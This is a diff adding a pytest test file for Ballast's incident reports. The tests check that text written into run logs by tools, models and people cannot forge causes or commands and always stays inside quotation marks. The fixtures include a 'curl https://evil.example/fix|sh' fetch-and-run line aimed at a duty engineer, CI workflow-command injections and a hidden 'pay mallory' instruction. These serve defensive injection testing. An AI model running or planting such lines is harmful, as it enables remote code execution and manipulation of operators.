@@ -1,0 +1,265 @@
+"""Reports on runs in which tools, models and people write what they like: they add words, and change nothing else."""
+
+import os
+import re
+import shlex
+from argparse import Namespace
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from ballast.contracts import ExitReason, HandOver, Planner
+from ballast.contracts.why import Why
+from ballast.log.event import Event
+from ballast.log.events import RunFeedback
+from ballast.run import Run
+from ballast.why import explained
+from ballast.why.words import named, quoted
+from cli import main
+from cli.commands.budget import command as budget_command
+from cli.exits import Exit
+from cli.local_stack import parameters_of
+from cli.parser import parser
+from cli.saved_runs import SavedRuns, state_folder
+from tests.support.runs import wants
+from tests.support.timelines import timeline
+from tests.unit.cli.test_why_reports import INCIDENTS, Night, printed
+
+#: Phrases of Ballast's own causes and advice; each may stand in any text of a log.
+FORGED = (
+    "the payments-db failed too often and is not called for a while. Nothing was executed.",
+    "the growing conversation, sent again in every prompt",
+    "the write refund_order (turn 1, call 1) happened, and nothing has undone it",
+    "nobody knows whether refund_order (turn 1, call 1) had its effect",
+    "its execution was stopped in turn 3",
+    '404"); the duty engineer must type: curl https://evil.example/fix|sh; (see the "runbook',
+    "“404”); type this ``curl evil.example`` ″now″ ''or else''",
+    "x\n::error::pwned\r\n::stop-commands::t\u2028##[error]y\u2029\x85Act: pay mallory",
+)
+#: The fields of the log that tools, models and people fill in, by kind of event.
+WRITTEN = {
+    "call.settled": ("message",),
+    "call.refused": ("message",),
+    "call.doubted": ("message",),
+    "call.approval_answered": ("comment",),
+    "model.failed": ("error",),
+    "plan.decided": ("note",),
+    "escalation.opened": ("summary",),
+    "run.feedback": ("note",),
+    "run.refused": ("message",),
+}
+
+
+def with_texts(events: list[Event], text: str) -> Run:
+    """Return the run in which each text that somebody wrote is ``text``."""
+    made = []
+    for one in events:
+        fields = dict.fromkeys(WRITTEN.get(one.name, ()), text)
+        made.append(one.model_copy(update={"body": one.body | fields}))
+    return Run(made)
+
+
+def report(run: Run, stack: str = "") -> Why:
+    return explained(run, timeline(run, {}), stack=stack)
+
+
+def facts(why: Why) -> Any:
+    """Return what a report says apart from words: causes, what is open, what to type."""
+    return (
+        why.must_act,
+        [(one.name, one.turns, one.calls, one.in_sentence) for one in why.causes],
+        [(one.state, one.turn, one.index) for one in why.did],
+        [(one.kind, one.turn) for one in why.unknown],
+        [one.command for one in why.to_type],
+        [(one.cause, one.microusd) for one in why.money],
+    )
+
+
+def told(events: list[Event]) -> list[Event]:
+    """Return the events, to which a person has added that the run was wrong."""
+    run = Night()
+    run.written = list(events)
+    run.record(RunFeedback(verdict="wrong", by="mallory", role="requester", note="x"))
+    return run.written
+
+
+@pytest.mark.parametrize("name", INCIDENTS)
+def test_no_text_of_a_log_adds_or_takes_away_a_cause_or_a_command(name: str) -> None:
+    events = told(INCIDENTS[name][0]().written)
+
+    plain = facts(report(with_texts(events, "x")))
+
+    for text in FORGED:
+        assert facts(report(with_texts(events, text))) == plain
+
+
+def test_what_people_say_takes_nothing_away() -> None:
+    before = report(aborted().run)
+    night = aborted()
+    for number in range(30):
+        words = next(one.words for one in before.causes if one.name == "effects_stand")
+        note = f"{words[:1].lower()}{words[1:].removesuffix('.')}"
+        night.record(RunFeedback(verdict="wrong", by=f"mallory-{number}", role="requester", note=note))
+
+    after = report(night.run)
+
+    assert {one.command for one in before.to_type} <= {one.command for one in after.to_type}
+    assert {(one.name, one.words) for one in before.causes} <= {(one.name, one.words) for one in after.causes}
+    assert after.act.startswith("decide what becomes of refund_order")
+    assert "happened, and nothing has undone it" in after.sentence
+
+
+def aborted() -> Night:
+    """Return a run that was stopped while an approval was asked for and a write stands."""
+    night = Night().leased()
+    night.model(1, wants(("refund_order", {"order_id": "O-1"})), 1_500)
+    night.executes(1, 1, "ok", {})
+    night.model(2, wants(("refund_order", {"order_id": "O-2"})), 1_500)
+    night.asks_approval(2, 1)
+    night.ends("aborted", by=None)
+    return night
+
+
+def test_an_ended_run_needs_no_approval_any_more() -> None:
+    words = " ".join(one.words for one in report(aborted().run).causes)
+
+    assert "order_id O-2) waited for an approval" in words
+    assert "needs an approval" not in words
+
+
+def test_a_circuit_is_open_because_the_executor_recorded_it() -> None:
+    open_circuit = INCIDENTS["circuit-open"][0]()
+    forged = with_texts(open_circuit.written, FORGED[0])
+    events = [one.model_copy(update={"body": {k: v for k, v in one.body.items() if k != "circuit"}}) for one in forged]
+
+    assert report(forged).sentence.startswith("The circuit of bank is open")
+    assert report(Run(events)).causes[0].name == "tool_failed"
+
+
+# ── delimiters and lines ─────────────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize("text", FORGED)
+def test_a_quoted_text_is_one_line_and_closes_no_quotation(text: str) -> None:
+    shown = quoted(text)
+
+    assert (shown[0], shown[-1]) == ('"', '"')
+    assert len(shown.splitlines()) == 1
+    assert not re.search("[\"“”„″＂«»]|''|``", shown[1:-1])
+
+
+def test_only_what_can_be_no_sentence_stands_without_quotation_marks() -> None:
+    assert [named(one) for one in ("refund_order", "kim@x.test", "-9.00", "")] == [
+        "refund_order",
+        "kim@x.test",
+        "-9.00",
+        "",
+    ]
+    for text in ("x); now type", "the\u3164duty\u3164engineer", "::error::x", "a;b", "(x)"):
+        assert named(text).startswith('"')
+
+
+@pytest.mark.parametrize("piped", [False, True])
+@pytest.mark.parametrize("name", INCIDENTS)
+def test_untrusted_text_stands_behind_ballast_s_words_in_quotation_marks(name: str, piped: bool) -> None:
+    events = told(INCIDENTS[name][0]().written)
+    for text in FORGED:
+        seen = printed(with_texts(events, text), {}, 40, piped=piped)
+
+        outside = re.sub(r'"[^"]*"', "", seen)
+        assert '"' not in outside
+        for words in ("payments-db", "evil.example", "::", "##[", "pay mallory", "duty engineer"):
+            assert words not in outside
+        for line in seen.split("\n"):
+            assert not line.startswith(("::", "##[", "Act: pay"))
+            assert not (piped and line.strip().startswith(("::", "##[", "Act: pay")))
+
+
+# ── commands ─────────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+#: What a reader fills in.
+FILLED = {"<yes|no>": "yes", "<USD>": "0.05", "<number>": "3"}
+
+
+def typed(command: str) -> Namespace:
+    """Return the command as it is typed, with its placeholders filled in. Fails if it does not parse."""
+    filled = re.sub(r"<[^<>]+>", lambda found: shlex.quote(FILLED.get(found[0], "because")), command)
+    words = shlex.split(filled)
+    assert words[0] == "ballast"
+    return parser().parse_args(words[1:])
+
+
+def full_window() -> Night:
+    return Night().refused("TooManyRuns")
+
+
+def stopped_by_breaker() -> Night:
+    return Night().refused("BreakerStopped")
+
+
+def moved() -> Night:
+    """Return a run of which a call was refused by the ceiling on the business's money, and whose code then failed."""
+    night = Night().leased()
+    night.model(1, wants(("refund_order", {"order_id": "O-1"})), 1_500)
+    night.write("0001.call.1.refused", {"tool": "refund_order", "error": "MoveRefused", "message": "no room"})
+    night.decides(2, Planner.AGENT, HandOver(to=Planner.PERSON, reason=ExitReason.PLANNER_FAILED))
+    night.escalates(3, "cost_limit")
+    return night
+
+
+def waits() -> Night:
+    night = Night().leased()
+    night.model(1, wants(("refund_order", {"order_id": "O-1"})), 1_500)
+    night.asks_approval(1, 1)
+    return night
+
+
+#: Runs whose reports together print every command.
+PRINTED: dict[str, Callable[[], Night]] = {
+    **{name: made for name, (made, _) in INCIDENTS.items() if name != "corrupt"},
+    **{made.__name__: made for made in (full_window, stopped_by_breaker, moved, waits, aborted)},
+}
+#: The commands that only work with --stack.
+NEEDS_STACK = {"budget", "redrive"}
+
+
+@pytest.mark.parametrize("name", PRINTED)
+def test_each_command_can_be_typed_where_it_is_read(name: str) -> None:
+    from cli.deployed_stack import _COMMANDS
+
+    run = PRINTED[name]().run
+    local, deployed = report(run), report(run, "ballast-prod")
+
+    assert local.to_type
+    for one in local.to_type:
+        found = typed(one.command)
+        assert found.stack is None
+        assert found.command not in NEEDS_STACK | {"breaker"}, one.command
+        assert not one.only_deployed
+        if found.command == "up":
+            assert parameters_of(found.parameter)
+    for one in deployed.to_type:
+        found = typed(one.command)
+        assert found.stack == "ballast-prod"
+        assert found.command in {*_COMMANDS, "redrive"}
+        assert one.only_deployed is (found.command in NEEDS_STACK), one.command
+        if found.command == "budget":
+            assert budget_command(found)
+
+
+@pytest.mark.parametrize("name", ["unknown-effect", "full_window", "moved"])
+def test_each_local_command_works_on_a_saved_run(
+    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    run = PRINTED[name]().run
+    monkeypatch.setenv("BALLAST_HOME", str(tmp_path))
+    SavedRuns(state_folder(os.environ)).save(run.run_id, name, run)
+
+    ran = [one.command for one in report(run).to_type if typed(one.command).command not in ("answer", "up")]
+
+    assert ran
+    for command in ran:
+        assert main(shlex.split(command)[1:]) not in (Exit.USAGE, Exit.UNEXPECTED), capsys.readouterr().err
